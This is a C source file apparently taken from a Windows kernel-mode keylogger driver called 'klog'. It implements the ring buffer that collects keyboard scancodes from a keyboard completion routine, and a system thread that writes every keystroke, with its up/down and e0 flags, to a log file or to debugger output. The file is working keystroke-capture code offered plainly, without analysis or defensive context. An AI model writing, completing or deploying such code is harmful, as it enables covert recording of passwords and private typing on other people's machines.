/*
 * worker.c - ring buffer + writer thread
 *
 * The completion routine runs at DISPATCH_LEVEL so it can't touch files,
 * it just drops the scancode in the ring and kicks the semaphore.
 */
#include "klog.h"
#include <ntstrsafe.h>

VOID
KlogPushKey(USHORT MakeCode, USHORT Flags)
{
    KIRQL oldIrql;
    ULONG next;

    KeAcquireSpinLock(&g_Klog.RingLock, &oldIrql);

    next = (g_Klog.Head + 1) % KLOG_RING_SIZE;
    if (next == g_Klog.Tail) {
        g_Klog.Dropped++;
        KeReleaseSpinLock(&g_Klog.RingLock, oldIrql);
        return;
    }
    g_Klog.Ring[g_Klog.Head].MakeCode = MakeCode;
    g_Klog.Ring[g_Klog.Head].Flags = Flags;
    g_Klog.Head = next;

    KeReleaseSpinLock(&g_Klog.RingLock, oldIrql);

    KeReleaseSemaphore(&g_Klog.KeySemaphore, IO_KEYBOARD_INCREMENT, 1, FALSE);
}

static BOOLEAN
KlogPopKey(PKLOG_KEY Key)
{
    KIRQL oldIrql;
    BOOLEAN got = FALSE;

    KeAcquireSpinLock(&g_Klog.RingLock, &oldIrql);
    if (g_Klog.Tail != g_Klog.Head) {
        *Key = g_Klog.Ring[g_Klog.Tail];
        g_Klog.Tail = (g_Klog.Tail + 1) % KLOG_RING_SIZE;
        got = TRUE;
    }
    KeReleaseSpinLock(&g_Klog.RingLock, oldIrql);
    return got;
}

static NTSTATUS
KlogOpenFile(PHANDLE FileHandle)
{
    UNICODE_STRING name;
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;

    RtlInitUnicodeString(&name, KLOG_FILE_NAME);
    InitializeObjectAttributes(&oa, &name,
                               OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE,
                               NULL, NULL);

    return ZwCreateFile(FileHandle,
                        FILE_APPEND_DATA | SYNCHRONIZE,
                        &oa,
                        &iosb,
                        NULL,
                        FILE_ATTRIBUTE_NORMAL,
                        FILE_SHARE_READ,
                        FILE_OPEN_IF,
                        FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE,
                        NULL,
                        0);
}

static VOID
KlogWriteKey(HANDLE File, PKLOG_KEY Key)
{
    CHAR line[KLOG_LINE_MAX];
    IO_STATUS_BLOCK iosb;
    size_t len = 0;
    NTSTATUS st;

    st = RtlStringCbPrintfA(line, sizeof(line), "%04X %s%s\r\n",
                            Key->MakeCode,
                            (Key->Flags & KLOG_KEY_UP) ? "up" : "down",
                            (Key->Flags & KLOG_KEY_E0) ? " e0" : "");
    if (!NT_SUCCESS(st)) {
        return;
    }
    RtlStringCbLengthA(line, sizeof(line), &len);

    if (File != NULL) {
        ZwWriteFile(File, NULL, NULL, NULL, &iosb, line, (ULONG)len, NULL, NULL);
    } else {
        DbgPrint("[klog] %s", line);
    }
}

VOID
KlogWorkerThread(PVOID StartContext)
{
    HANDLE hFile = NULL;
    NTSTATUS status;
    PVOID waitObjects[2];
    KLOG_KEY key;

    UNREFERENCED_PARAMETER(StartContext);

    status = KlogOpenFile(&hFile);
    if (!NT_SUCCESS(status)) {
        /* no file, fall back to debugger output */
        KdPrint(("[klog] open %ws failed 0x%X, using DbgPrint\n", KLOG_FILE_NAME, status));
        hFile = NULL;
    }

    waitObjects[0] = &g_Klog.StopEvent;
    waitObjects[1] = &g_Klog.KeySemaphore;

    for (;;) {
        status = KeWaitForMultipleObjects(2, waitObjects, WaitAny, Executive,
                                          KernelMode, FALSE, NULL, NULL);
        if (status == STATUS_WAIT_0) {
            break;
        }
        while (KlogPopKey(&key)) {
            KlogWriteKey(hFile, &key);
        }
    }

    /* drain what is left */
    while (KlogPopKey(&key)) {
        KlogWriteKey(hFile, &key);
    }

    if (hFile != NULL) {
        ZwClose(hFile);
    }

    KLOG_DBG("writer thread exiting\n");
    PsTerminateSystemThread(STATUS_SUCCESS);
}
